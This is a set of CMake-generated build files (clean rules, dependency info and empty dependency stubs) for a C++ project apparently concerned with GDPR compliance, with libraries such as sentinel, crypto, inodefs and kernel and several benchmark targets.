file(REMOVE_RECURSE
  "CMakeFiles/rgpd_sentinel.dir/audit.cpp.o"
  "CMakeFiles/rgpd_sentinel.dir/audit.cpp.o.d"
  "CMakeFiles/rgpd_sentinel.dir/breach.cpp.o"
  "CMakeFiles/rgpd_sentinel.dir/breach.cpp.o.d"
  "CMakeFiles/rgpd_sentinel.dir/domain.cpp.o"
  "CMakeFiles/rgpd_sentinel.dir/domain.cpp.o.d"
  "CMakeFiles/rgpd_sentinel.dir/enclave.cpp.o"
  "CMakeFiles/rgpd_sentinel.dir/enclave.cpp.o.d"
  "CMakeFiles/rgpd_sentinel.dir/policy.cpp.o"
  "CMakeFiles/rgpd_sentinel.dir/policy.cpp.o.d"
  "CMakeFiles/rgpd_sentinel.dir/syscall_filter.cpp.o"
  "CMakeFiles/rgpd_sentinel.dir/syscall_filter.cpp.o.d"
  "librgpd_sentinel.a"
  "librgpd_sentinel.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_sentinel.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
