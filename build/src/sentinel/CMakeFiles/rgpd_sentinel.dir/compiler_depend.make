# Empty compiler generated dependencies file for rgpd_sentinel.
# This may be replaced when dependencies are built.
