
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/sentinel/audit.cpp" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/audit.cpp.o" "gcc" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/audit.cpp.o.d"
  "/root/repo/src/sentinel/breach.cpp" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/breach.cpp.o" "gcc" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/breach.cpp.o.d"
  "/root/repo/src/sentinel/domain.cpp" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/domain.cpp.o" "gcc" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/domain.cpp.o.d"
  "/root/repo/src/sentinel/enclave.cpp" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/enclave.cpp.o" "gcc" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/enclave.cpp.o.d"
  "/root/repo/src/sentinel/policy.cpp" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/policy.cpp.o" "gcc" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/policy.cpp.o.d"
  "/root/repo/src/sentinel/syscall_filter.cpp" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/syscall_filter.cpp.o" "gcc" "src/sentinel/CMakeFiles/rgpd_sentinel.dir/syscall_filter.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rgpd_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
