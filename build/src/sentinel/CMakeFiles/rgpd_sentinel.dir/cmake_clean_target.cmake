file(REMOVE_RECURSE
  "librgpd_sentinel.a"
)
