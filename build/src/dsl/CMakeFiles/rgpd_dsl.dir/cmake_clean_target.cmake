file(REMOVE_RECURSE
  "librgpd_dsl.a"
)
