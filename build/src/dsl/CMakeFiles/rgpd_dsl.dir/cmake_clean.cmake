file(REMOVE_RECURSE
  "CMakeFiles/rgpd_dsl.dir/ast.cpp.o"
  "CMakeFiles/rgpd_dsl.dir/ast.cpp.o.d"
  "CMakeFiles/rgpd_dsl.dir/codec.cpp.o"
  "CMakeFiles/rgpd_dsl.dir/codec.cpp.o.d"
  "CMakeFiles/rgpd_dsl.dir/lexer.cpp.o"
  "CMakeFiles/rgpd_dsl.dir/lexer.cpp.o.d"
  "CMakeFiles/rgpd_dsl.dir/lint.cpp.o"
  "CMakeFiles/rgpd_dsl.dir/lint.cpp.o.d"
  "CMakeFiles/rgpd_dsl.dir/parser.cpp.o"
  "CMakeFiles/rgpd_dsl.dir/parser.cpp.o.d"
  "librgpd_dsl.a"
  "librgpd_dsl.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_dsl.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
