# Empty compiler generated dependencies file for rgpd_dsl.
# This may be replaced when dependencies are built.
