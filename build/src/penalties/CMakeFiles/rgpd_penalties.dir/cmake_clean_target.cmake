file(REMOVE_RECURSE
  "librgpd_penalties.a"
)
