# Empty compiler generated dependencies file for rgpd_penalties.
# This may be replaced when dependencies are built.
