file(REMOVE_RECURSE
  "CMakeFiles/rgpd_penalties.dir/penalties.cpp.o"
  "CMakeFiles/rgpd_penalties.dir/penalties.cpp.o.d"
  "librgpd_penalties.a"
  "librgpd_penalties.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_penalties.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
