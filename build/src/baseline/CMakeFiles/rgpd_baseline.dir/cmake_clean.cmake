file(REMOVE_RECURSE
  "CMakeFiles/rgpd_baseline.dir/baseline_engine.cpp.o"
  "CMakeFiles/rgpd_baseline.dir/baseline_engine.cpp.o.d"
  "librgpd_baseline.a"
  "librgpd_baseline.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_baseline.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
