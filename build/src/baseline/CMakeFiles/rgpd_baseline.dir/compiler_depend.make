# Empty compiler generated dependencies file for rgpd_baseline.
# This may be replaced when dependencies are built.
