file(REMOVE_RECURSE
  "librgpd_baseline.a"
)
