# CMake generated Testfile for 
# Source directory: /root/repo/src/membrane
# Build directory: /root/repo/build/src/membrane
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
