file(REMOVE_RECURSE
  "CMakeFiles/rgpd_membrane.dir/membrane.cpp.o"
  "CMakeFiles/rgpd_membrane.dir/membrane.cpp.o.d"
  "librgpd_membrane.a"
  "librgpd_membrane.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_membrane.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
