# Empty compiler generated dependencies file for rgpd_membrane.
# This may be replaced when dependencies are built.
