file(REMOVE_RECURSE
  "librgpd_membrane.a"
)
