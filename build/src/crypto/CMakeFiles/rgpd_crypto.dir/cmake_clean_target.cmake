file(REMOVE_RECURSE
  "librgpd_crypto.a"
)
