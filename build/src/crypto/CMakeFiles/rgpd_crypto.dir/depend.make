# Empty dependencies file for rgpd_crypto.
# This may be replaced when dependencies are built.
