file(REMOVE_RECURSE
  "CMakeFiles/rgpd_crypto.dir/bigint.cpp.o"
  "CMakeFiles/rgpd_crypto.dir/bigint.cpp.o.d"
  "CMakeFiles/rgpd_crypto.dir/chacha20.cpp.o"
  "CMakeFiles/rgpd_crypto.dir/chacha20.cpp.o.d"
  "CMakeFiles/rgpd_crypto.dir/envelope.cpp.o"
  "CMakeFiles/rgpd_crypto.dir/envelope.cpp.o.d"
  "CMakeFiles/rgpd_crypto.dir/hmac.cpp.o"
  "CMakeFiles/rgpd_crypto.dir/hmac.cpp.o.d"
  "CMakeFiles/rgpd_crypto.dir/rsa.cpp.o"
  "CMakeFiles/rgpd_crypto.dir/rsa.cpp.o.d"
  "CMakeFiles/rgpd_crypto.dir/secure_random.cpp.o"
  "CMakeFiles/rgpd_crypto.dir/secure_random.cpp.o.d"
  "CMakeFiles/rgpd_crypto.dir/sha256.cpp.o"
  "CMakeFiles/rgpd_crypto.dir/sha256.cpp.o.d"
  "librgpd_crypto.a"
  "librgpd_crypto.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_crypto.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
