file(REMOVE_RECURSE
  "CMakeFiles/rgpd_blockdev.dir/block_device.cpp.o"
  "CMakeFiles/rgpd_blockdev.dir/block_device.cpp.o.d"
  "CMakeFiles/rgpd_blockdev.dir/file_block_device.cpp.o"
  "CMakeFiles/rgpd_blockdev.dir/file_block_device.cpp.o.d"
  "CMakeFiles/rgpd_blockdev.dir/latency_model.cpp.o"
  "CMakeFiles/rgpd_blockdev.dir/latency_model.cpp.o.d"
  "CMakeFiles/rgpd_blockdev.dir/traffic_recorder.cpp.o"
  "CMakeFiles/rgpd_blockdev.dir/traffic_recorder.cpp.o.d"
  "librgpd_blockdev.a"
  "librgpd_blockdev.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_blockdev.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
