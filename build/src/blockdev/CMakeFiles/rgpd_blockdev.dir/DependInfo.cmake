
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/blockdev/block_device.cpp" "src/blockdev/CMakeFiles/rgpd_blockdev.dir/block_device.cpp.o" "gcc" "src/blockdev/CMakeFiles/rgpd_blockdev.dir/block_device.cpp.o.d"
  "/root/repo/src/blockdev/file_block_device.cpp" "src/blockdev/CMakeFiles/rgpd_blockdev.dir/file_block_device.cpp.o" "gcc" "src/blockdev/CMakeFiles/rgpd_blockdev.dir/file_block_device.cpp.o.d"
  "/root/repo/src/blockdev/latency_model.cpp" "src/blockdev/CMakeFiles/rgpd_blockdev.dir/latency_model.cpp.o" "gcc" "src/blockdev/CMakeFiles/rgpd_blockdev.dir/latency_model.cpp.o.d"
  "/root/repo/src/blockdev/traffic_recorder.cpp" "src/blockdev/CMakeFiles/rgpd_blockdev.dir/traffic_recorder.cpp.o" "gcc" "src/blockdev/CMakeFiles/rgpd_blockdev.dir/traffic_recorder.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rgpd_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
