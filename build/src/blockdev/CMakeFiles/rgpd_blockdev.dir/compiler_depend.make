# Empty compiler generated dependencies file for rgpd_blockdev.
# This may be replaced when dependencies are built.
