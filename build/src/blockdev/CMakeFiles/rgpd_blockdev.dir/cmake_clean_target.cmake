file(REMOVE_RECURSE
  "librgpd_blockdev.a"
)
