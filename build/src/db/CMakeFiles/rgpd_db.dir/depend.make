# Empty dependencies file for rgpd_db.
# This may be replaced when dependencies are built.
