file(REMOVE_RECURSE
  "librgpd_db.a"
)
