file(REMOVE_RECURSE
  "CMakeFiles/rgpd_db.dir/catalog.cpp.o"
  "CMakeFiles/rgpd_db.dir/catalog.cpp.o.d"
  "CMakeFiles/rgpd_db.dir/schema.cpp.o"
  "CMakeFiles/rgpd_db.dir/schema.cpp.o.d"
  "CMakeFiles/rgpd_db.dir/table.cpp.o"
  "CMakeFiles/rgpd_db.dir/table.cpp.o.d"
  "CMakeFiles/rgpd_db.dir/value.cpp.o"
  "CMakeFiles/rgpd_db.dir/value.cpp.o.d"
  "librgpd_db.a"
  "librgpd_db.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_db.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
