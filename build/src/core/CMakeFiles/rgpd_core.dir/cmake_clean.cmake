file(REMOVE_RECURSE
  "CMakeFiles/rgpd_core.dir/anonymize.cpp.o"
  "CMakeFiles/rgpd_core.dir/anonymize.cpp.o.d"
  "CMakeFiles/rgpd_core.dir/authority.cpp.o"
  "CMakeFiles/rgpd_core.dir/authority.cpp.o.d"
  "CMakeFiles/rgpd_core.dir/builtins.cpp.o"
  "CMakeFiles/rgpd_core.dir/builtins.cpp.o.d"
  "CMakeFiles/rgpd_core.dir/ded.cpp.o"
  "CMakeFiles/rgpd_core.dir/ded.cpp.o.d"
  "CMakeFiles/rgpd_core.dir/processing_log.cpp.o"
  "CMakeFiles/rgpd_core.dir/processing_log.cpp.o.d"
  "CMakeFiles/rgpd_core.dir/processing_store.cpp.o"
  "CMakeFiles/rgpd_core.dir/processing_store.cpp.o.d"
  "CMakeFiles/rgpd_core.dir/receipts.cpp.o"
  "CMakeFiles/rgpd_core.dir/receipts.cpp.o.d"
  "CMakeFiles/rgpd_core.dir/rgpdos.cpp.o"
  "CMakeFiles/rgpd_core.dir/rgpdos.cpp.o.d"
  "CMakeFiles/rgpd_core.dir/rights.cpp.o"
  "CMakeFiles/rgpd_core.dir/rights.cpp.o.d"
  "librgpd_core.a"
  "librgpd_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
