
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/core/anonymize.cpp" "src/core/CMakeFiles/rgpd_core.dir/anonymize.cpp.o" "gcc" "src/core/CMakeFiles/rgpd_core.dir/anonymize.cpp.o.d"
  "/root/repo/src/core/authority.cpp" "src/core/CMakeFiles/rgpd_core.dir/authority.cpp.o" "gcc" "src/core/CMakeFiles/rgpd_core.dir/authority.cpp.o.d"
  "/root/repo/src/core/builtins.cpp" "src/core/CMakeFiles/rgpd_core.dir/builtins.cpp.o" "gcc" "src/core/CMakeFiles/rgpd_core.dir/builtins.cpp.o.d"
  "/root/repo/src/core/ded.cpp" "src/core/CMakeFiles/rgpd_core.dir/ded.cpp.o" "gcc" "src/core/CMakeFiles/rgpd_core.dir/ded.cpp.o.d"
  "/root/repo/src/core/processing_log.cpp" "src/core/CMakeFiles/rgpd_core.dir/processing_log.cpp.o" "gcc" "src/core/CMakeFiles/rgpd_core.dir/processing_log.cpp.o.d"
  "/root/repo/src/core/processing_store.cpp" "src/core/CMakeFiles/rgpd_core.dir/processing_store.cpp.o" "gcc" "src/core/CMakeFiles/rgpd_core.dir/processing_store.cpp.o.d"
  "/root/repo/src/core/receipts.cpp" "src/core/CMakeFiles/rgpd_core.dir/receipts.cpp.o" "gcc" "src/core/CMakeFiles/rgpd_core.dir/receipts.cpp.o.d"
  "/root/repo/src/core/rgpdos.cpp" "src/core/CMakeFiles/rgpd_core.dir/rgpdos.cpp.o" "gcc" "src/core/CMakeFiles/rgpd_core.dir/rgpdos.cpp.o.d"
  "/root/repo/src/core/rights.cpp" "src/core/CMakeFiles/rgpd_core.dir/rights.cpp.o" "gcc" "src/core/CMakeFiles/rgpd_core.dir/rights.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rgpd_common.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/rgpd_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/blockdev/CMakeFiles/rgpd_blockdev.dir/DependInfo.cmake"
  "/root/repo/build/src/inodefs/CMakeFiles/rgpd_inodefs.dir/DependInfo.cmake"
  "/root/repo/build/src/db/CMakeFiles/rgpd_db.dir/DependInfo.cmake"
  "/root/repo/build/src/membrane/CMakeFiles/rgpd_membrane.dir/DependInfo.cmake"
  "/root/repo/build/src/dsl/CMakeFiles/rgpd_dsl.dir/DependInfo.cmake"
  "/root/repo/build/src/sentinel/CMakeFiles/rgpd_sentinel.dir/DependInfo.cmake"
  "/root/repo/build/src/dbfs/CMakeFiles/rgpd_dbfs.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
