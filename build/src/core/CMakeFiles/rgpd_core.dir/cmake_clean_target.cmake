file(REMOVE_RECURSE
  "librgpd_core.a"
)
