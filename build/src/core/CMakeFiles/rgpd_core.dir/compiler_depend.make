# Empty compiler generated dependencies file for rgpd_core.
# This may be replaced when dependencies are built.
