
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/inodefs/filesystem.cpp" "src/inodefs/CMakeFiles/rgpd_inodefs.dir/filesystem.cpp.o" "gcc" "src/inodefs/CMakeFiles/rgpd_inodefs.dir/filesystem.cpp.o.d"
  "/root/repo/src/inodefs/format.cpp" "src/inodefs/CMakeFiles/rgpd_inodefs.dir/format.cpp.o" "gcc" "src/inodefs/CMakeFiles/rgpd_inodefs.dir/format.cpp.o.d"
  "/root/repo/src/inodefs/inode_store.cpp" "src/inodefs/CMakeFiles/rgpd_inodefs.dir/inode_store.cpp.o" "gcc" "src/inodefs/CMakeFiles/rgpd_inodefs.dir/inode_store.cpp.o.d"
  "/root/repo/src/inodefs/journal.cpp" "src/inodefs/CMakeFiles/rgpd_inodefs.dir/journal.cpp.o" "gcc" "src/inodefs/CMakeFiles/rgpd_inodefs.dir/journal.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rgpd_common.dir/DependInfo.cmake"
  "/root/repo/build/src/blockdev/CMakeFiles/rgpd_blockdev.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
