file(REMOVE_RECURSE
  "librgpd_inodefs.a"
)
