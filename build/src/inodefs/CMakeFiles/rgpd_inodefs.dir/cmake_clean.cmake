file(REMOVE_RECURSE
  "CMakeFiles/rgpd_inodefs.dir/filesystem.cpp.o"
  "CMakeFiles/rgpd_inodefs.dir/filesystem.cpp.o.d"
  "CMakeFiles/rgpd_inodefs.dir/format.cpp.o"
  "CMakeFiles/rgpd_inodefs.dir/format.cpp.o.d"
  "CMakeFiles/rgpd_inodefs.dir/inode_store.cpp.o"
  "CMakeFiles/rgpd_inodefs.dir/inode_store.cpp.o.d"
  "CMakeFiles/rgpd_inodefs.dir/journal.cpp.o"
  "CMakeFiles/rgpd_inodefs.dir/journal.cpp.o.d"
  "librgpd_inodefs.a"
  "librgpd_inodefs.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_inodefs.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
