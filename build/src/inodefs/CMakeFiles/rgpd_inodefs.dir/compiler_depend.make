# Empty compiler generated dependencies file for rgpd_inodefs.
# This may be replaced when dependencies are built.
