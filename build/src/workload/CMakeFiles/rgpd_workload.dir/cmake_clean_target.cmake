file(REMOVE_RECURSE
  "librgpd_workload.a"
)
