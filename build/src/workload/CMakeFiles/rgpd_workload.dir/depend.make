# Empty dependencies file for rgpd_workload.
# This may be replaced when dependencies are built.
