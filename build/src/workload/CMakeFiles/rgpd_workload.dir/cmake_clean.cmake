file(REMOVE_RECURSE
  "CMakeFiles/rgpd_workload.dir/workload.cpp.o"
  "CMakeFiles/rgpd_workload.dir/workload.cpp.o.d"
  "librgpd_workload.a"
  "librgpd_workload.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_workload.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
