file(REMOVE_RECURSE
  "CMakeFiles/rgpd_common.dir/bytes.cpp.o"
  "CMakeFiles/rgpd_common.dir/bytes.cpp.o.d"
  "CMakeFiles/rgpd_common.dir/clock.cpp.o"
  "CMakeFiles/rgpd_common.dir/clock.cpp.o.d"
  "CMakeFiles/rgpd_common.dir/crc32.cpp.o"
  "CMakeFiles/rgpd_common.dir/crc32.cpp.o.d"
  "CMakeFiles/rgpd_common.dir/hex.cpp.o"
  "CMakeFiles/rgpd_common.dir/hex.cpp.o.d"
  "CMakeFiles/rgpd_common.dir/log.cpp.o"
  "CMakeFiles/rgpd_common.dir/log.cpp.o.d"
  "CMakeFiles/rgpd_common.dir/rng.cpp.o"
  "CMakeFiles/rgpd_common.dir/rng.cpp.o.d"
  "CMakeFiles/rgpd_common.dir/status.cpp.o"
  "CMakeFiles/rgpd_common.dir/status.cpp.o.d"
  "librgpd_common.a"
  "librgpd_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
