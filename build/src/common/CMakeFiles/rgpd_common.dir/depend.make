# Empty dependencies file for rgpd_common.
# This may be replaced when dependencies are built.
