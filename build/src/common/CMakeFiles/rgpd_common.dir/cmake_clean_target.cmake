file(REMOVE_RECURSE
  "librgpd_common.a"
)
