file(REMOVE_RECURSE
  "CMakeFiles/rgpd_dbfs.dir/dbfs.cpp.o"
  "CMakeFiles/rgpd_dbfs.dir/dbfs.cpp.o.d"
  "librgpd_dbfs.a"
  "librgpd_dbfs.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_dbfs.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
