# Empty dependencies file for rgpd_dbfs.
# This may be replaced when dependencies are built.
