file(REMOVE_RECURSE
  "librgpd_dbfs.a"
)
