
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/kernel/channel.cpp" "src/kernel/CMakeFiles/rgpd_kernel.dir/channel.cpp.o" "gcc" "src/kernel/CMakeFiles/rgpd_kernel.dir/channel.cpp.o.d"
  "/root/repo/src/kernel/io_driver_kernel.cpp" "src/kernel/CMakeFiles/rgpd_kernel.dir/io_driver_kernel.cpp.o" "gcc" "src/kernel/CMakeFiles/rgpd_kernel.dir/io_driver_kernel.cpp.o.d"
  "/root/repo/src/kernel/machine.cpp" "src/kernel/CMakeFiles/rgpd_kernel.dir/machine.cpp.o" "gcc" "src/kernel/CMakeFiles/rgpd_kernel.dir/machine.cpp.o.d"
  "/root/repo/src/kernel/placement.cpp" "src/kernel/CMakeFiles/rgpd_kernel.dir/placement.cpp.o" "gcc" "src/kernel/CMakeFiles/rgpd_kernel.dir/placement.cpp.o.d"
  "/root/repo/src/kernel/subkernel.cpp" "src/kernel/CMakeFiles/rgpd_kernel.dir/subkernel.cpp.o" "gcc" "src/kernel/CMakeFiles/rgpd_kernel.dir/subkernel.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rgpd_common.dir/DependInfo.cmake"
  "/root/repo/build/src/blockdev/CMakeFiles/rgpd_blockdev.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
