# Empty dependencies file for rgpd_kernel.
# This may be replaced when dependencies are built.
