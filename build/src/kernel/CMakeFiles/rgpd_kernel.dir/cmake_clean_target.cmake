file(REMOVE_RECURSE
  "librgpd_kernel.a"
)
