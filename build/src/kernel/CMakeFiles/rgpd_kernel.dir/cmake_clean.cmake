file(REMOVE_RECURSE
  "CMakeFiles/rgpd_kernel.dir/channel.cpp.o"
  "CMakeFiles/rgpd_kernel.dir/channel.cpp.o.d"
  "CMakeFiles/rgpd_kernel.dir/io_driver_kernel.cpp.o"
  "CMakeFiles/rgpd_kernel.dir/io_driver_kernel.cpp.o.d"
  "CMakeFiles/rgpd_kernel.dir/machine.cpp.o"
  "CMakeFiles/rgpd_kernel.dir/machine.cpp.o.d"
  "CMakeFiles/rgpd_kernel.dir/placement.cpp.o"
  "CMakeFiles/rgpd_kernel.dir/placement.cpp.o.d"
  "CMakeFiles/rgpd_kernel.dir/subkernel.cpp.o"
  "CMakeFiles/rgpd_kernel.dir/subkernel.cpp.o.d"
  "librgpd_kernel.a"
  "librgpd_kernel.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpd_kernel.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
