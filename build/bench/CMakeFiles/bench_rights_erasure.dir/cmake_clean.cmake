file(REMOVE_RECURSE
  "CMakeFiles/bench_rights_erasure.dir/bench_rights_erasure.cpp.o"
  "CMakeFiles/bench_rights_erasure.dir/bench_rights_erasure.cpp.o.d"
  "bench_rights_erasure"
  "bench_rights_erasure.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_rights_erasure.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
