# Empty compiler generated dependencies file for bench_rights_erasure.
# This may be replaced when dependencies are built.
