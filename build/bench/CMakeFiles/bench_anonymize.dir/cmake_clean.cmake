file(REMOVE_RECURSE
  "CMakeFiles/bench_anonymize.dir/bench_anonymize.cpp.o"
  "CMakeFiles/bench_anonymize.dir/bench_anonymize.cpp.o.d"
  "bench_anonymize"
  "bench_anonymize.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_anonymize.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
