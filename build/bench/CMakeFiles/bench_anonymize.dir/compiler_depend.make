# Empty compiler generated dependencies file for bench_anonymize.
# This may be replaced when dependencies are built.
