file(REMOVE_RECURSE
  "CMakeFiles/bench_rights_access.dir/bench_rights_access.cpp.o"
  "CMakeFiles/bench_rights_access.dir/bench_rights_access.cpp.o.d"
  "bench_rights_access"
  "bench_rights_access.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_rights_access.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
