# Empty compiler generated dependencies file for bench_rights_access.
# This may be replaced when dependencies are built.
