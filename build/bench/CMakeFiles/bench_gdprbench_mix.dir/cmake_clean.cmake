file(REMOVE_RECURSE
  "CMakeFiles/bench_gdprbench_mix.dir/bench_gdprbench_mix.cpp.o"
  "CMakeFiles/bench_gdprbench_mix.dir/bench_gdprbench_mix.cpp.o.d"
  "bench_gdprbench_mix"
  "bench_gdprbench_mix.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_gdprbench_mix.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
