# Empty compiler generated dependencies file for bench_gdprbench_mix.
# This may be replaced when dependencies are built.
