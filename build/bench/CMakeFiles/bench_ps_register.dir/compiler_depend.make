# Empty compiler generated dependencies file for bench_ps_register.
# This may be replaced when dependencies are built.
