file(REMOVE_RECURSE
  "CMakeFiles/bench_ps_register.dir/bench_ps_register.cpp.o"
  "CMakeFiles/bench_ps_register.dir/bench_ps_register.cpp.o.d"
  "bench_ps_register"
  "bench_ps_register.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ps_register.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
