file(REMOVE_RECURSE
  "CMakeFiles/bench_dbfs_vs_fs.dir/bench_dbfs_vs_fs.cpp.o"
  "CMakeFiles/bench_dbfs_vs_fs.dir/bench_dbfs_vs_fs.cpp.o.d"
  "bench_dbfs_vs_fs"
  "bench_dbfs_vs_fs.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_dbfs_vs_fs.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
