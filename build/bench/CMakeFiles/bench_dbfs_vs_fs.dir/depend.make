# Empty dependencies file for bench_dbfs_vs_fs.
# This may be replaced when dependencies are built.
