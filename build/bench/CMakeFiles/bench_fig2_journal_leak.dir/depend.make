# Empty dependencies file for bench_fig2_journal_leak.
# This may be replaced when dependencies are built.
