# Empty dependencies file for bench_fig3_datacentric.
# This may be replaced when dependencies are built.
