file(REMOVE_RECURSE
  "CMakeFiles/bench_fig3_datacentric.dir/bench_fig3_datacentric.cpp.o"
  "CMakeFiles/bench_fig3_datacentric.dir/bench_fig3_datacentric.cpp.o.d"
  "bench_fig3_datacentric"
  "bench_fig3_datacentric.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig3_datacentric.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
