file(REMOVE_RECURSE
  "CMakeFiles/bench_kernel_partition.dir/bench_kernel_partition.cpp.o"
  "CMakeFiles/bench_kernel_partition.dir/bench_kernel_partition.cpp.o.d"
  "bench_kernel_partition"
  "bench_kernel_partition.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_kernel_partition.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
