# Empty dependencies file for bench_kernel_partition.
# This may be replaced when dependencies are built.
