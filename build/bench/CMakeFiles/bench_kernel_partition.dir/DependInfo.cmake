
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/bench_kernel_partition.cpp" "bench/CMakeFiles/bench_kernel_partition.dir/bench_kernel_partition.cpp.o" "gcc" "bench/CMakeFiles/bench_kernel_partition.dir/bench_kernel_partition.cpp.o.d"
  )

